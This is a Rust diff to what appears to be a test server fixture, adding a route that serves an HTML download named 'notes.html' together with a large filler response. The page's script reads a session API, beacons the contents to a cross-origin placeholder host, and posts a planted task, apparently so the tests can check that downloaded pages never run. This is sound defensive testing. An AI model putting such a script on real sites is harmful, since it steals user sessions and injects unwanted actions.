@@ -24,6 +24,16 @@ impl Drop for Server {
     }
 }
 
+/// What `/evil-download` sends: a page whose script, where it runs, says so
+/// (`/exfil-ran`), reads `/api/sessions` of its own origin and sends what
+/// it read (`/exfil`), and submits a session.
+pub const EVIL_PAGE: &str = "<!doctype html><title>notes</title><script>\
+new Image().src = 'CROSS_ORIGIN/exfil-ran';\
+fetch('/api/sessions').then(r => r.text()).then(t => navigator.sendBeacon('CROSS_ORIGIN/exfil', t));\
+fetch('/api/sessions', {method: 'POST', headers: {'content-type': 'application/json'}, \
+  body: JSON.stringify({task: 'planted', url: 'http://a.test/'})});\
+</script><h1>notes</h1>";
+
 /// What `/attachment` sends when no size is asked.
 pub const REPORT_CSV: &str = "region,total\nnorth,36\nsouth,41\n";
 
@@ -267,6 +277,19 @@ async fn serve(
             stream.write_all(&body).await?;
             return stream.flush().await;
         }
+        // An HTML page the site sends as a download, whose script (were it
+        // ever run) reads the API of whatever origin it is opened on and
+        // tells this server what it read.
+        "/evil-download" => {
+            let body = EVIL_PAGE.replace("CROSS_ORIGIN", &other);
+            let head = format!(
+                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"notes.html\"\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                body.len()
+            );
+            stream.write_all(head.as_bytes()).await?;
+            stream.write_all(body.as_bytes()).await?;
+            return stream.flush().await;
+        }
         // An image the site sends as a download.
         "/chart-download" => {
             let body = tiny_png();
@@ -386,6 +409,8 @@ async fn serve(
                 .unwrap_or(0);
             (200, "text/plain", n.to_string().into_bytes())
         }
+        // A server that is no seamark's: 3 MB of text, whatever is asked.
+        p if p.starts_with("/not-an-api/") => (200, "text/plain", vec![b'a'; 3_000_000]),
         "/image.png" => (200, "image/png", tiny_png()),
         // A page that is another on every visit: a replay of it diverges.
         "/visits" => {
